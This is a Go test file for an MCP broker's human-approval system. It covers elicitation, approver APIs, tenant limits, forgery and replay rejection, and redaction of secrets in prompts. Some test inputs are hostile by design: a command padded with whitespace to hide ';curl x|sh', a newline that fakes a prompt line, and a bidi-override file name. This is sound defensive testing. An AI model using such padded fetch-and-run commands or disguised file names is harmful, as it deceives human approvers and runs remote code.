package broker

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/client"
	"github.com/mark3labs/mcp-go/client/transport"
	"github.com/mark3labs/mcp-go/mcp"

	"github.com/mcpbroker/mcpbroker/broker/approval"
	"github.com/mcpbroker/mcpbroker/broker/audit"
)

const approvalPolicies = `@id("u") permit (principal is Broker::User, action, resource);
@id("a") permit (principal is Broker::Agent, action, resource);

@id("shared-write") @approval("required") @approval_timeout("3s") @reason("shared notes are read by the whole team")
forbid (principal, action == Broker::Action::"call_tool", resource == Broker::Tool::"notes/write_note")
when { context.args has name && context.args.name like "shared/*" }
unless { context has approval && context.approval.granted && context.approval.callId == context.callId };

@id("ops-write") @approval("approver:finance") @approval_timeout("20s")
forbid (principal, action == Broker::Action::"call_tool", resource == Broker::Tool::"notes/write_note")
when { context.args has name && context.args.name like "ops/*" }
unless { context has approval && context.approval.granted && context.approval.callId == context.callId };

@id("team-write") @approval("required") @approval_scope("session")
forbid (principal, action == Broker::Action::"call_tool", resource == Broker::Tool::"notes/write_note")
when { context.args has name && context.args.name like "team/*" }
unless { context has approval && context.approval.granted && context.approval.callId == context.callId };
`

const (
	carolToken = "carol-approver-token-0123456789"
	aliceToken = "alice-approver-token-0123456789"
	daveToken  = "dave-approver-token-01234567890" // finance, but only for tenant globex
)

// approvalBroker runs a broker with the approval policies, the notes
// server and two approvers: carol (finance) and alice (the initiator of
// every call, to show she cannot approve her own).
func approvalBroker(t *testing.T) (*Broker, string) {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "p.cedar"), []byte(approvalPolicies), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("TEST_APPROVER_CAROL", carolToken)
	t.Setenv("TEST_APPROVER_ALICE", aliceToken)
	t.Setenv("TEST_APPROVER_DAVE", daveToken)
	cfg := Defaults()
	cfg.Policies = dir
	cfg.Listen = "127.0.0.1:0"
	cfg.DataDir = t.TempDir()
	cfg.Identity = IdentityConfig{Mode: "dev", DefaultAgent: "spiffe://t.local/agent/a", DefaultInitiator: "alice"}
	cfg.Servers = []ServerConfig{{Name: "notes", Transport: "builtin", Builtin: "notes", Trusted: true}}
	cfg.Approvals = ApprovalsConfig{ProgressInterval: Duration(200 * time.Millisecond), Approvers: []ApproverConfig{
		{ID: "carol", Groups: []string{"finance"}, TokenEnv: "TEST_APPROVER_CAROL"},
		{ID: "alice", Groups: []string{"finance"}, TokenEnv: "TEST_APPROVER_ALICE"},
		{ID: "dave", Groups: []string{"finance"}, TokenEnv: "TEST_APPROVER_DAVE", Tenants: []string{"globex"}},
	}}
	ready := make(chan string, 1)
	b, err := New(cfg, Options{Logger: testLogger(t), Version: "test", Ready: func(u string) { ready <- u }})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- b.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		select {
		case <-done:
		case <-time.After(20 * time.Second):
			t.Error("broker did not stop")
		}
	})
	select {
	case u := <-ready:
		return b, u
	case err := <-done:
		t.Fatalf("broker stopped: %v", err)
	case <-time.After(20 * time.Second):
		t.Fatal("not ready")
	}
	return nil, ""
}

// human answers the broker's approval elicitation.
type human struct {
	action  mcp.ElicitationResponseAction
	answer  string
	delay   time.Duration
	asked   atomic.Int32
	mu      sync.Mutex
	message string
}

func (h *human) Elicit(ctx context.Context, req mcp.ElicitationRequest) (*mcp.ElicitationResult, error) {
	h.asked.Add(1)
	h.mu.Lock()
	h.message = req.Params.Message
	h.mu.Unlock()
	if h.delay > 0 {
		time.Sleep(h.delay)
	}
	res := &mcp.ElicitationResult{ElicitationResponse: mcp.ElicitationResponse{Action: h.action}}
	if h.action == mcp.ElicitationResponseActionAccept {
		res.Content = map[string]any{"decision": h.answer, "comment": "looks fine"}
	}
	return res, nil
}

func dial(t *testing.T, u, era string, h *human) *client.Client {
	t.Helper()
	tr, err := transport.NewStreamableHTTP(u)
	if err != nil {
		t.Fatal(err)
	}
	opts := []client.ClientOption{client.WithProtocolVersion(era)}
	if h != nil {
		opts = append(opts, client.WithElicitationHandler(h))
	}
	c := client.NewClient(tr, opts...)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := c.Start(ctx); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	if _, err := c.Initialize(ctx, mcp.InitializeRequest{}); err != nil {
		t.Fatal(err)
	}
	return c
}

func write(ctx context.Context, c *client.Client, name string) (*mcp.CallToolResult, error) {
	req := mcp.CallToolRequest{}
	req.Params.Name = "notes__write_note"
	req.Params.Arguments = map[string]any{"name": name, "text": "hello"}
	return c.CallTool(ctx, req)
}

func approvalReasonOf(r *mcp.CallToolResult) string {
	if r == nil || r.Meta == nil {
		return ""
	}
	s, _ := r.Meta.AdditionalFields["io.mcpbroker/reason"].(string)
	return s
}

var eras = []string{mcp.ProtocolVersion20251125, mcp.ProtocolVersion20260728}

func TestApprovalInBand(t *testing.T) {
	b, u := approvalBroker(t)
	cases := []struct {
		name   string
		action mcp.ElicitationResponseAction
		answer string
		reason string
		state  approval.State
	}{
		{"accept approve", mcp.ElicitationResponseActionAccept, "approve", "", approval.Consumed},
		{"accept deny", mcp.ElicitationResponseActionAccept, "deny", string(ReasonApprovalDenied), approval.Denied},
		{"decline", mcp.ElicitationResponseActionDecline, "", string(ReasonApprovalDenied), approval.Denied},
		{"cancel", mcp.ElicitationResponseActionCancel, "", string(ReasonCancelled), approval.Cancelled},
	}
	for _, era := range eras {
		for _, tc := range cases {
			t.Run(era+"/"+tc.name, func(t *testing.T) {
				h := &human{action: tc.action, answer: tc.answer}
				c := dial(t, u, era, h)
				ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
				defer cancel()
				name := fmt.Sprintf("shared/%s-%d", strings.ReplaceAll(tc.name, " ", "-"), time.Now().UnixNano())
				res, err := write(ctx, c, name)
				if err != nil {
					t.Fatal(err)
				}
				if got := approvalReasonOf(res); got != tc.reason || res.IsError != (tc.reason != "") {
					t.Fatalf("reason %q isError %v (%s), want %q", got, res.IsError, text(res), tc.reason)
				}
				if h.asked.Load() != 1 {
					t.Fatalf("asked %d times", h.asked.Load())
				}
				h.mu.Lock()
				msg := h.message
				h.mu.Unlock()
				for _, want := range []string{"notes__write_note", "server notes", name, "shared notes are read by the whole team",
					"shared-write", "spiffe://t.local/agent/a", "text: hello"} {
					if !strings.Contains(msg, want) {
						t.Errorf("prompt lacks %q:\n%s", want, msg)
					}
				}
				r := findApproval(t, b, name)
				if r.State != tc.state || r.Asked != approval.ChannelElicitation {
					t.Fatalf("record state %s asked %s, want %s", r.State, r.Asked, tc.state)
				}
				if tc.state == approval.Consumed && (r.Approver != "alice" || r.Channel != approval.ChannelElicitation || r.Comment != "looks fine") {
					t.Errorf("record approver %q channel %q comment %q", r.Approver, r.Channel, r.Comment)
				}
			})
		}
	}
}

func findApproval(t *testing.T, b *Broker, argValue string) *approval.Record {
	t.Helper()
	rs, err := b.approvals.svc.List(true)
	if err != nil {
		t.Fatal(err)
	}
	for i := len(rs) - 1; i >= 0; i-- {
		for _, f := range rs[i].Summary {
			if f.Value == argValue {
				return rs[i]
			}
		}
	}
	t.Fatalf("no approval for %s", argValue)
	return nil
}

func TestApprovalInBandTimeout(t *testing.T) {
	b, u := approvalBroker(t)
	for _, era := range eras {
		t.Run(era, func(t *testing.T) {
			h := &human{action: mcp.ElicitationResponseActionAccept, answer: "approve", delay: 4 * time.Second}
			c := dial(t, u, era, h)
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			defer cancel()
			name := "shared/late-" + strings.ReplaceAll(era, "-", "")
			res, err := write(ctx, c, name)
			if err != nil {
				t.Fatal(err)
			}
			if approvalReasonOf(res) != string(ReasonApprovalTimeout) {
				t.Fatalf("reason %q (%s)", approvalReasonOf(res), text(res))
			}
			if r := findApproval(t, b, name); r.State != approval.Expired {
				t.Fatalf("state %s", r.State)
			}
		})
	}
}

func TestApprovalSessionScope(t *testing.T) {
	_, u := approvalBroker(t)
	h := &human{action: mcp.ElicitationResponseActionAccept, answer: "approve"}
	c := dial(t, u, mcp.ProtocolVersion20251125, h)
	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer cancel()
	for _, name := range []string{"team/a", "team/b", "team/c"} {
		res, err := write(ctx, c, name)
		if err != nil || res.IsError {
			t.Fatalf("%s: %v %s", name, err, text(res))
		}
	}
	if h.asked.Load() != 1 {
		t.Fatalf("asked %d times; a session grant covers the rest of the session", h.asked.Load())
	}
	// It answers team-write only: a shared note (another policy) is asked
	// again.
	if res, err := write(ctx, c, "shared/x"); err != nil || res.IsError || h.asked.Load() != 2 {
		t.Fatalf("shared/x after a team grant: %v %s, asked %d times", err, text(res), h.asked.Load())
	}
	// Another session is not covered.
	h2 := &human{action: mcp.ElicitationResponseActionDecline}
	c2 := dial(t, u, mcp.ProtocolVersion20251125, h2)
	if res, _ := write(ctx, c2, "team/d"); approvalReasonOf(res) != string(ReasonApprovalDenied) || h2.asked.Load() != 1 {
		t.Fatalf("other session: %q asked %d", approvalReasonOf(res), h2.asked.Load())
	}
}

// waitPending returns the pending approval whose arguments show value.
func waitPending(t *testing.T, b *Broker, value string) *approval.Record {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		rs, _ := b.approvals.svc.List(false)
		for _, r := range rs {
			for _, f := range r.Summary {
				if f.Value == value {
					return r
				}
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("no pending approval for %s", value)
	return nil
}

type callResult struct {
	res      *mcp.CallToolResult
	err      error
	progress int32
}

// callAsync calls write in the background, with a progress token.
func callAsync(c *client.Client, ctx context.Context, name string) <-chan callResult {
	out := make(chan callResult, 1)
	var progress atomic.Int32
	c.OnNotification(func(n mcp.JSONRPCNotification) {
		if n.Method == "notifications/progress" {
			progress.Add(1)
		}
	})
	go func() {
		req := mcp.CallToolRequest{}
		req.Params.Name = "notes__write_note"
		req.Params.Arguments = map[string]any{"name": name, "text": "hello"}
		req.Params.Meta = &mcp.Meta{ProgressToken: mcp.ProgressToken("p-" + name)}
		res, err := c.CallTool(ctx, req)
		out <- callResult{res: res, err: err, progress: progress.Load()}
	}()
	return out
}

func apiDecide(t *testing.T, u, token, id, action string) int {
	t.Helper()
	base := strings.TrimSuffix(u, "/mcp")
	req, _ := http.NewRequest(http.MethodPost, base+"/approvals/api/v1/approvals/"+id+"/"+action, strings.NewReader(`{"comment":"via api"}`))
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

func adminDecide(t *testing.T, b *Broker, id, action, approver string) int {
	t.Helper()
	sock := filepath.Join(b.cfg.DataDir, AdminSocket)
	hc := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "unix", sock)
	}}}
	body, _ := json.Marshal(ApprovalDecision{Approver: approver, Comment: "via admin socket"})
	resp, err := hc.Post("http://mcpbroker"+ApprovalsPath+"/"+id+"/"+action, "application/json", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

func TestApprovalOutOfBand(t *testing.T) {
	b, u := approvalBroker(t)
	for _, era := range eras {
		t.Run(era+"/no elicitation capability, approver API", func(t *testing.T) {
			c := dial(t, u, era, nil) // declares no elicitation: never elicited
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			defer cancel()
			name := "shared/oob-" + strings.ReplaceAll(era, "-", "")
			done := callAsync(c, ctx, name)
			r := waitPending(t, b, name)
			if r.Asked != approval.ChannelOutOfBand || r.Mode != approval.ModeApprover {
				t.Fatalf("asked %s mode %s", r.Asked, r.Mode)
			}
			time.Sleep(500 * time.Millisecond) // a few progress notifications
			if code := apiDecide(t, u, aliceToken, r.ID, "approve"); code != http.StatusForbidden {
				t.Fatalf("initiator approving her own request: HTTP %d", code)
			}
			if code := apiDecide(t, u, "not-a-token", r.ID, "approve"); code != http.StatusUnauthorized {
				t.Fatalf("bad token: HTTP %d", code)
			}
			// dave approves for another tenant: he neither sees nor decides it.
			if code := apiDecide(t, u, daveToken, r.ID, "approve"); code != http.StatusForbidden {
				t.Fatalf("an approver of another tenant: HTTP %d", code)
			}
			req, _ := http.NewRequest(http.MethodGet, strings.TrimSuffix(u, "/mcp")+"/approvals/api/v1/approvals", nil)
			req.Header.Set("Authorization", "Bearer "+daveToken)
			if resp, err := http.DefaultClient.Do(req); err != nil {
				t.Fatal(err)
			} else {
				var rs []*approval.Record
				_ = json.NewDecoder(resp.Body).Decode(&rs)
				resp.Body.Close()
				if resp.StatusCode != http.StatusOK || len(rs) != 0 {
					t.Fatalf("an approver of another tenant listed %d approvals (HTTP %d)", len(rs), resp.StatusCode)
				}
			}
			if code := apiDecide(t, u, carolToken, r.ID, "approve"); code != http.StatusOK {
				t.Fatalf("carol approves: HTTP %d", code)
			}
			res := <-done
			if res.err != nil || res.res.IsError {
				t.Fatalf("waiting call: %v %s", res.err, text(res.res))
			}
			if era == mcp.ProtocolVersion20251125 && res.progress == 0 {
				t.Error("no progress notifications while waiting")
			}
			got, _ := b.approvals.svc.Get(r.ID)
			if got.State != approval.Consumed || got.Approver != "carol" || got.Channel != approval.ChannelHTTP {
				t.Fatalf("record %s by %s via %s", got.State, got.Approver, got.Channel)
			}
			// The call's own decision record names the approval.
			decided := listLive(t, b.cfg.DataDir, audit.Filter{Type: audit.CallDecided, CallID: got.CallID})
			if len(decided) == 0 || !strings.Contains(decided[len(decided)-1].Event.Detail, r.ID) || !strings.Contains(decided[len(decided)-1].Event.Detail, "carol") {
				t.Fatalf("call.decided after approval: %+v", decided)
			}
			if code := apiDecide(t, u, carolToken, r.ID, "deny"); code != http.StatusConflict {
				t.Fatalf("replayed decision: HTTP %d", code)
			}
		})
	}
	t.Run("approver group via admin socket", func(t *testing.T) {
		h := &human{action: mcp.ElicitationResponseActionAccept, answer: "approve"}
		c := dial(t, u, mcp.ProtocolVersion20251125, h) // could elicit, but the policy names a group
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		done := callAsync(c, ctx, "ops/plan")
		r := waitPending(t, b, "ops/plan")
		if r.Group != "finance" {
			t.Fatalf("group %q", r.Group)
		}
		if code := adminDecide(t, b, r.ID, "approve", "alice"); code != http.StatusForbidden {
			t.Fatalf("initiator via admin socket: HTTP %d", code)
		}
		if code := adminDecide(t, b, r.ID, "deny", "bob"); code != http.StatusOK {
			t.Fatalf("bob denies: HTTP %d", code)
		}
		res := <-done
		if approvalReasonOf(res.res) != string(ReasonApprovalDenied) {
			t.Fatalf("reason %q", approvalReasonOf(res.res))
		}
		if h.asked.Load() != 0 {
			t.Error("an approver-group approval was elicited in band")
		}
	})
	t.Run("agent goes away", func(t *testing.T) {
		c := dial(t, u, mcp.ProtocolVersion20251125, nil)
		ctx, cancel := context.WithCancel(context.Background())
		done := callAsync(c, ctx, "ops/gone")
		r := waitPending(t, b, "ops/gone")
		cancel()
		<-done
		deadline := time.Now().Add(5 * time.Second)
		for time.Now().Before(deadline) {
			if got, _ := b.approvals.svc.Get(r.ID); got.State == approval.Cancelled {
				return
			}
			time.Sleep(20 * time.Millisecond)
		}
		t.Fatal("approval of a call whose agent went away was not cancelled")
	})
}

// tamperer sits between a 2026-07-28 agent and the broker and changes the
// retry that carries the approval's requestState.
type tamperer struct {
	mu     sync.Mutex
	mutate func(body []byte) []byte
	last   []byte
	header http.Header
}

func (tp *tamperer) proxy(t *testing.T, target string) string {
	u, _ := url.Parse(target)
	rp := httputil.NewSingleHostReverseProxy(&url.URL{Scheme: u.Scheme, Host: u.Host})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		if bytes.Contains(body, []byte(`"requestState":"mcpba1.`)) {
			tp.mu.Lock()
			tp.last, tp.header = body, r.Header.Clone()
			if tp.mutate != nil {
				body = tp.mutate(body)
			}
			tp.mu.Unlock()
		}
		r.Body = io.NopCloser(bytes.NewReader(body))
		r.ContentLength = int64(len(body))
		r.Host = u.Host
		rp.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	return srv.URL + u.Path
}

func TestApprovalStateForgeries(t *testing.T) {
	b, u := approvalBroker(t)
	flipState := func(body []byte) []byte {
		i := bytes.Index(body, []byte(`"requestState":"mcpba1.`)) + len(`"requestState":"mcpba1.`) + 5
		c := body[i]
		body[i] = map[bool]byte{true: 'B', false: 'A'}[c == 'A']
		return body
	}
	otherArgs := func(body []byte) []byte { return bytes.Replace(body, []byte(`"hello"`), []byte(`"HELLO"`), 1) }
	cases := []struct {
		name   string
		mutate func([]byte) []byte
	}{{"tampered requestState", flipState}, {"other arguments", otherArgs}}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			tp := &tamperer{mutate: tc.mutate}
			h := &human{action: mcp.ElicitationResponseActionAccept, answer: "approve"}
			c := dial(t, tp.proxy(t, u), mcp.ProtocolVersion20260728, h)
			ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
			defer cancel()
			res, err := write(ctx, c, "shared/forged-"+strings.ReplaceAll(tc.name, " ", "-"))
			if err != nil {
				t.Fatal(err)
			}
			if approvalReasonOf(res) != string(ReasonApprovalDenied) {
				t.Fatalf("reason %q (%s)", approvalReasonOf(res), text(res))
			}
		})
	}
	t.Run("replayed answer", func(t *testing.T) {
		tp := &tamperer{}
		h := &human{action: mcp.ElicitationResponseActionAccept, answer: "approve"}
		c := dial(t, tp.proxy(t, u), mcp.ProtocolVersion20260728, h)
		ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
		defer cancel()
		res, err := write(ctx, c, "shared/replayed")
		if err != nil || res.IsError {
			t.Fatalf("first call: %v %s", err, text(res))
		}
		tp.mu.Lock()
		body, hdr := tp.last, tp.header
		tp.mu.Unlock()
		req, _ := http.NewRequest(http.MethodPost, u, bytes.NewReader(body))
		req.Header = hdr
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		out, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if !bytes.Contains(out, []byte(string(ReasonApprovalDenied))) {
			t.Fatalf("replay answered: %s", out)
		}
		if r := findApproval(t, b, "shared/replayed"); r.State != approval.Consumed || len(r.UsedBy) != 1 {
			t.Fatalf("record %s used by %v", r.State, r.UsedBy)
		}
	})
	// Every refusal is in the audit trail.
	entries, err := b.ledger.List(context.Background(), audit.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, e := range entries {
		if strings.Contains(e.Event.Detail, "refused") && (e.Event.Type == audit.ApprovalDecided || e.Event.Type == audit.RequestRejected) {
			n++
		}
	}
	if n != 3 {
		t.Errorf("%d refused approval records, want 3 (tampered, other arguments, replay)", n)
	}
}

func TestSummarizeArgsRedacts(t *testing.T) {
	rules := audit.Classes{"ssn": audit.Secret, "card": audit.Secret, "password": audit.Public}
	got := summarizeArgs([]byte(`{"amount":25000,"auth":{"api_token":"s3cr3t"},"card":{"number":"4111"},"note":"rent","password":"shown","ssn":"078-05-1120","x":{"secret":"hunter2"}}`), rules)
	want := []approval.Field{{Name: "amount", Value: "25000"}, {Name: "auth.api_token", Value: audit.Redacted},
		{Name: "card", Value: audit.Redacted}, {Name: "note", Value: "rent"}, {Name: "password", Value: "shown"},
		{Name: "ssn", Value: audit.Redacted}, {Name: "x.secret", Value: audit.Redacted}}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("summary %v, want %v", got, want)
	}
	p := approvalPrompt(&approval.Record{Agent: "a", Tool: "payments__transfer", Server: "payments", Summary: got, Scope: approval.ScopeOnce})
	if strings.Contains(p, "s3cr3t") || strings.Contains(p, "hunter2") || strings.Contains(p, "078-05") || strings.Contains(p, "4111") {
		t.Fatalf("prompt shows a secret:\n%s", p)
	}
}

// TestSummaryShowsWhatItCannotShow: a value with a newline cannot fake a
// line of the prompt, a bidirectional override is written out, and a cut
// value says how much is not shown.
func TestSummaryShowsWhatItCannotShow(t *testing.T) {
	long := "echo hi" + strings.Repeat(" ", 600) + ";curl x|sh"
	got := summarizeArgs([]byte(`{"cmd":`+strconv.Quote(long)+`,"note":"ok\nApproving covers this one call only.","file":"txt.\u202eexe"}`), nil)
	byName := map[string]string{}
	for _, f := range got {
		byName[f.Name] = f.Value
	}
	if v := byName["cmd"]; !strings.Contains(v, "more bytes not shown") || strings.Contains(v, "curl") {
		t.Errorf("cut value: %q", v)
	}
	if v := byName["note"]; strings.Contains(v, "\n") || !strings.Contains(v, `\n`) {
		t.Errorf("newline: %q", v)
	}
	if v := byName["file"]; strings.ContainsRune(v, '\u202e') || !strings.Contains(v, `\u202e`) {
		t.Errorf("bidi override: %q", v)
	}
}

// TestApprovalNotDodgedByCase: "Name" is the notes server's name field too
// (encoding/json matches it ignoring case), so the shared-note policy sees
// it and asks for approval.
func TestApprovalNotDodgedByCase(t *testing.T) {
	_, u := approvalBroker(t)
	h := &human{action: mcp.ElicitationResponseActionDecline}
	c := dial(t, u, mcp.ProtocolVersion20251125, h)
	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer cancel()
	req := mcp.CallToolRequest{}
	req.Params.Name = "notes__write_note"
	req.Params.Arguments = map[string]any{"Name": "shared/roadmap", "text": "overwritten"}
	res, err := c.CallTool(ctx, req)
	if err != nil || approvalReasonOf(res) != string(ReasonApprovalDenied) || h.asked.Load() != 1 {
		t.Fatalf("a shared note written as \"Name\": %v %s (asked %d)", err, text(res), h.asked.Load())
	}
}
